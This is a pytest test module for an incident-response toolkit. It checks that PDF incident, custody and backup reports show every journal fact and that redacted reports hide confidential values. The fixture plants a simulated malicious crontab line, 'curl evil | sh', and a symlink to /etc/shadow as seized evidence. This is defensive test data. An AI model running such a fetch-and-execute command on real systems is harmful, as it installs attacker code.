"""Everything recorded appears: a case with every entry kind and every optional field, each
template rendered, each recorded fact looked for in the extracted text.

Expectations are derived from the journal (every leaf value of every body), never typed in;
what a template leaves out by design it must say it leaves out.
"""

from __future__ import annotations

import hashlib
import io
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from irkit.backup import manifest as backupmanifest
from irkit.backup import testrestore
from irkit.evidence import custody
from irkit.evidence.collect import collect
from irkit.evidence.relocate import relocate
from irkit.formats import redaction
from irkit.formats.ed25519 import Signer, generate
from irkit.incident import actions
from irkit.incident.settings import preset
from irkit.notes.notes import add_note, correct_note, note_extras, witness_note
from irkit.record.case import Case, add_member, remove_member
from irkit.record.entry import Entry
from irkit.report import export
from irkit.report.model import build, human_time, withheld
from tests.conftest import FixedClock
from tests.helpers import qpdf_decompressed

# not printed by design, each for a stated reason
_NEVER = {
    "salt",  # the redaction salt: printing it would let a reader confirm guesses
    "confidential",  # shown as the marker "confidential" / the redaction itself
    "public_key",  # members are shown by their key fingerprint (its SHA-256)
    "prev",
    "witness_sig",  # a co-signature: checked by `irkit verify`, shown as "witnessed by NAME"
}


def _clean(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _text(pdf: bytes) -> str:
    return _clean("\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages))


def leaves(body: Any, path: str = "", key: str = "") -> list[tuple[str, str, Any]]:
    """(dotted path, key, value) of every scalar in a body; a list of scalars is one value,
    its items joined by ", " (as reports print and commit to it)."""
    if isinstance(body, dict):
        out: list[tuple[str, str, Any]] = []
        for k, v in body.items():
            out += leaves(v, f"{path}.{k}" if path else k, k)
        return out
    if isinstance(body, list):
        if all(not isinstance(v, (dict, list)) for v in body):
            return [(path, key, ", ".join(map(str, body)))] if body else []
        return [x for n, v in enumerate(body) for x in leaves(v, f"{path}.{n}", key)]
    return [(path, key, body)]


def commitments(entries: list[Entry], text: str) -> list[str]:
    """What a redacted report shows for `text`, from the salt of the entry that holds it."""
    found = []
    for e in entries:
        salt = e.body.get("salt")
        for path, _, value in leaves(e.body):
            if value == text and e.body.get("confidential"):
                found.append(withheld(text, salt, path))
    return sorted(set(found))


@pytest.fixture
def everything(case: Case, alice: Signer, bob: Signer, tmp_path: Path) -> Case:
    """Every entry kind irkit writes, each optional field used at least once."""
    return build_everything(case, alice, bob, tmp_path)


def build_everything(case: Case, alice: Signer, bob: Signer, tmp_path: Path) -> Case:
    """The `everything` case, for other test modules' own fixtures."""
    ck = FixedClock(datetime(2026, 5, 4, 7, 0, tzinfo=UTC), step=1800)
    carol = generate("Carol Auditor", "auditor")
    add_member(case, alice, carol.public, name="Carol Auditor", role="auditor",
               contact="+44 20 7946 0958", clock=ck)  # fmt: skip
    actions.configure(case, alice, preset("itil3", "Europe/Berlin"), reason="desk opens", clock=ck)
    src = tmp_path / "seized"
    src.mkdir()
    (src / "auth.log").write_text("sshd: accepted key for root\n")
    (src / "crontab").write_text("* * * * * curl evil | sh\n")
    (src / "shadow-link").symlink_to("/etc/shadow")  # met, recorded, not collected
    photo = tmp_path / "photo.jpg"
    photo.write_bytes(b"\xff\xd8 not really a jpeg")
    got = collect(
        case,
        alice,
        [src],
        description="web-01 logs",
        location="rack 4",
        md5=True,
        source_host="web-01.example",
        serial="SN-4471-QX",
        model="Dell PowerEdge R640",
        macs=["00:1a:2b:3c:4d:5e", "00:1a:2b:3c:4d:5f"],
        ips=["192.0.2.10", "2001:db8::10"],
        clock=ck,
    )
    assert got.body["skipped"] and got.body["source_host"] and got.body["source_mac"]
    ids = [i["id"] for i in got.body["items"]]
    ref = tmp_path / "huge-image.raw"
    ref.write_bytes(b"disk image")
    by_ref = collect(
        case, alice, [ref], description="by-reference image", by_reference=True, clock=ck
    )
    moved = tmp_path / "nas" / "huge-image.raw"
    moved.parent.mkdir()
    moved.write_bytes(ref.read_bytes())
    relocate(case, alice, by_ref.body["items"][0]["id"], moved, reason="moved to NAS", clock=ck)
    collect(
        case,
        bob,
        [src / "auth.log"],
        description="HR laptop of Ms Gecko",
        confidential=True,
        clock=ck,
    )
    first = add_note(
        case,
        alice,
        "Call from the web team",
        tags=["triage", "phone"],
        attach=[photo],
        extra=note_extras(links=ids[:1], starred=True),
        clock=ck,
        event_time=datetime(2026, 5, 4, 6, 45, tzinfo=UTC),
    )
    wrong = add_note(case, bob, "Cron fetched a script", tags=["root-cause"], clock=ck)
    correct_note(case, bob, wrong.seq, "Cron fetched a remote script", reason="precise", clock=ck)
    add_note(case, bob, "Suspect is Mr Axolotl, ext 4471", confidential=True, clock=ck)
    add_note(case, alice, "Rotate deploy keys", tags=["lessons-learned"], clock=ck)
    witness_note(case, bob, first.seq, statement="I took that call too", clock=ck)
    t1 = custody.release(
        case,
        alice,
        ids,
        to=bob.fingerprint,
        purpose="lab analysis",
        location="site office",
        method="sealed bag",
        clock=ck,
    )
    custody.accept(case, bob, t1.body["transfer"], condition="seal intact", clock=ck)
    custody.check(case, bob, ids[:1], clock=ck)
    custody.store(case, bob, ids[:1], location="locker 2", clock=ck)
    custody.finish(
        case, bob, "custody.returned", ids[1:2], reason="back to owner", witness=alice, clock=ck
    )
    actions.set_field(case, alice, "impact", "2", reason="one server", clock=ck)
    actions.set_field(case, alice, "urgency", "1", reason="public site", clock=ck)
    actions.set_field(case, alice, "assignee", "Bob", reason="on site", clock=ck)
    actions.set_field(
        case, alice, "assets", "hr-db-Tuatara", reason="x", confidential=True, clock=ck
    )
    actions.change_state(case, bob, "in_progress", reason="on it", clock=ck)
    esc = actions.escalate(case, bob, kind="functional", tier=3, reason="needs forensics", clock=ck)
    actions.acknowledge(case, alice, esc.seq, note="forensics on it", clock=ck)
    actions.escalate(
        case, bob, kind="hierarchical", team="legal", reason="data protection", clock=ck
    )
    grant = actions.consent_grant(
        case, alice, by="Ms Smith", scope="image the laptop", method="phone", clock=ck
    )
    actions.consent_withdraw(
        case, alice, grant.seq, by="Ms Smith", method="email", reason="changed her mind", clock=ck
    )
    actions.inform(case, alice, channel="email", summary="we found the cause", clock=ck)
    actions.change_state(
        case, bob, "pending", reason="need vendor patch", waiting_for="vendor", clock=ck
    )
    actions.change_state(case, bob, "in_progress", reason="patch arrived", clock=ck)
    actions.link(
        case, bob, "change", "CHG-7", reason="patch rollout", change_type="emergency", clock=ck
    )
    actions.link(
        case, bob, "known-error", "KE-17", reason="seen before", workaround="disable cron", clock=ck
    )
    resolution = {
        "code": "MALWARE-REMOVED",
        "solution": "removed the cron entry",
        "outcome": "true-positive",
        "impact": "site down 2 h",
    }
    actions.change_state(case, bob, "resolved", reason="fixed", resolution=resolution, clock=ck)
    sched = actions.followup_schedule(
        case, alice, due=datetime(2026, 6, 1, 9, tzinfo=UTC), note="review cron policy", clock=ck
    )
    actions.followup_done(case, alice, sched.seq, note="policy reviewed", clock=ck)
    actions.confirm(
        case, alice, by="Ms Smith", channel="phone", satisfaction=5, comment="thanks", clock=ck
    )
    good = tmp_path / "good"
    testrestore.build_five_databases(good)
    manifest = tmp_path / "manifest.json"
    backupmanifest.write(good, manifest)
    result = testrestore.run_verify(good, manifest=manifest)
    testrestore.record(case, bob, result, sign_off=True, clock=ck)
    remove_member(case, alice, carol.fingerprint, reason="audit finished", clock=ck)
    return case


def _expected(e: Entry, zone: str) -> list[str]:
    """Each fact of one entry as the incident report must print it."""
    want = []
    for path, key, value in leaves(e.body):
        if key in _NEVER or (
            e.kind.startswith("custody.") and key in ("to", "ok", "sha256", "witness")
        ):
            continue
        if isinstance(value, bool):
            continue  # booleans: flags, checked where they have a visible meaning
        text = "none" if value is None else str(value)
        if e.kind == "evidence.collected" and key == "mode":
            text = f"{value:04o}"  # permission bits, as `ls` and forms write them
        if isinstance(value, str) and re.match(r"^\d{4}-\d\d-\d\dT", text):
            text = human_time(text, zone)
        if e.kind.startswith(("incident.", "member.", "case.", "backup.", "report.")):
            want.append(f"{path}:{text}")  # the case record: every field by name
        elif e.kind.startswith("custody.") and key == "items":
            continue  # named as ranges (E-0001–E-0002); the forms name each
        else:
            want.append(text)
    return want


def test_incident_report_shows_every_recorded_fact(everything: Case) -> None:
    entries = everything.read_entries().entries
    model = build(entries)
    flat = _text(export.render(entries, "incident", redact=False))
    kinds = {e.kind for e in entries}
    assert {
        "note.witnessed",
        "custody.returned",
        "incident.acknowledged",
        "member.removed",
        "incident.informed",
        "incident.followup",
        "incident.consent",
        "evidence.relocated",
    } <= kinds
    for e in entries:
        for fact in _expected(e, model.zone):
            assert _clean(fact) in flat, (e.seq, e.kind, fact)
    # the things the issue found missing, named
    for needle in (
        "photo.jpg",
        "starredforthesummary",
        "evidence:E-0001",
        "tier3",
        "NOTACKNOWLEDGED",
        "waitingforvendor",
        "byreference",
        "Keyobservations",
        "WITHDRAWN",
        "witnessstatementbyBob",
    ):
        assert needle in flat, needle
    photo = next(e for e in entries if e.body.get("attachments"))
    assert photo.body["attachments"][0]["sha256"] in flat


@pytest.mark.parametrize("template", ["custody", "backup-signoff"])
def test_other_templates_say_what_they_leave_out(everything: Case, template: str) -> None:
    entries = everything.read_entries().entries
    flat = _text(export.render(entries, template, redact=False))
    assert "Leftoutofthistemplatebydesign" in flat
    if template == "backup-signoff":
        verified = [e for e in entries if e.kind == "backup.verified"]
        assert verified
        for e in verified:
            for fact in _expected(e, build(entries).zone):
                assert _clean(fact) in flat, (e.seq, fact)
    if template == "custody":
        model = build(entries)
        for form in model.custody:
            assert form.item.sha256 in flat and _clean(form.item.path) in flat
        for e in entries:  # every per-file field the journal records, on the item's form
            if e.kind == "evidence.relocated":
                assert _clean(f"{e.body['path']} on {e.body['host']} (#{e.seq}") in flat
            if e.kind != "evidence.collected":
                continue
            for item in e.body["items"]:
                for key in ("mtime", "ctime", "atime"):
                    assert _clean(human_time(item[key], model.zone)) in flat, (item["id"], key)
                assert f"mode{item['mode']:04o},uid{item['uid']},gid{item['gid']}" in flat
            # the source's identifiers (every source_* field, derived from the body), each
            # in its own row of the item's form
            labels = {"source_host": "Sourcehost", "source_serial": "Serialno.",
                      "source_model": "Model", "source_mac": "MACaddresses",
                      "source_ip": "IPaddresses"}  # fmt: skip
            for path, key, value in leaves(e.body):
                if key.startswith("source_"):
                    assert labels[key] + _clean(str(value)) in flat, (e.seq, path)
            # a handler's contact on the forms: tests/unit/test_report_identity.py
            for v in form.events:
                assert _clean(v.at) in flat and _clean(v.purpose) in flat


def test_redacted_report_cannot_confirm_a_guess(everything: Case, tmp_path: Path) -> None:
    entries = everything.read_entries().entries
    pdf = export.render(entries, "incident", redact=True)
    raw = qpdf_decompressed(pdf, tmp_path) + pdf
    text = _text(pdf)
    secret = [e for e in entries if e.body.get("confidential")]
    assert len(secret) == 3 and all(e.body.get("salt") for e in secret)
    for e in secret:
        assert str(e.body["salt"]).encode() not in raw
        for path, key, value in leaves(e.body):
            if key in ("text", "description", "new", "path"):
                assert str(value).encode() not in raw, path
                # the unsalted digest, which `sha256sum` reproduces from a guess, is absent
                digest = hashlib.sha256(str(value).encode()).hexdigest()
                assert digest.encode() not in raw and digest not in text, path
                assert _clean(withheld(str(value), e.body["salt"], path)) in text, path
    for needle in (b"Axolotl", b"Gecko", b"Tuatara"):
        assert needle not in raw


def test_commitment_is_checkable_with_the_disclosed_field_salt(everything: Case) -> None:
    note = next(
        e
        for e in everything.read_entries().entries
        if e.body.get("confidential") and e.kind == "note.added"
    )
    field = redaction.field_salt(note.body["salt"], "text")
    assert hashlib.sha256(field + note.body["text"].encode()).hexdigest() == (
        redaction.commitment(note.body["salt"], "text", note.body["text"])
    )


def test_an_entry_without_salt_shows_no_digest() -> None:
    shown = withheld("Ms Smith (web team lead)", None, "text")
    assert "Smith" not in shown and not re.search(r"[0-9a-f]{32}", shown)


def test_appendix_recipe_is_the_documented_one() -> None:
    from irkit.report.sections.closing import VERIFY_RECIPE

    doc = (Path(__file__).parents[2] / "docs" / "FORMAT.md").read_text()
    block = doc.split("<!-- recipe:verify-entry -->\n```sh\n")[1].split("```\n<!-- /recipe")[0]
    assert block == VERIFY_RECIPE


def test_an_older_confidential_note_without_salt_renders_withheld(
    case: Case, alice: Signer, tmp_path: Path
) -> None:
    """A journal written before salts: the note still renders, redacted with no digest."""
    from irkit.record.entry import build_line
    from irkit.record.journal import entry_hash

    lines = case.journal_path.read_bytes().splitlines()
    text = "Old secret: Ms Smith (web team lead)"
    body = {"text": text, "confidential": True}
    line = build_line(
        alice,
        seq=len(lines),
        prev=entry_hash(lines[-1]),
        kind="note.added",
        body=body,
        recorded="2026-01-02T03:10:00.000000Z",
    )
    with case.journal_path.open("ab") as fh:
        fh.write(line + b"\n")
    case.invalidate_state()
    entries = case.read_entries().entries
    assert "salt" not in entries[-1].body
    pdf = export.render(entries, "incident", redact=True)
    raw = qpdf_decompressed(pdf, tmp_path) + pdf
    digest = hashlib.sha256(text.encode()).hexdigest()
    assert b"Smith" not in raw and digest.encode() not in raw
    assert "olderentrywithoutsalt:nodigestshown" in _text(pdf)
    assert "Smith" in _text(export.render(entries, "incident", redact=False))
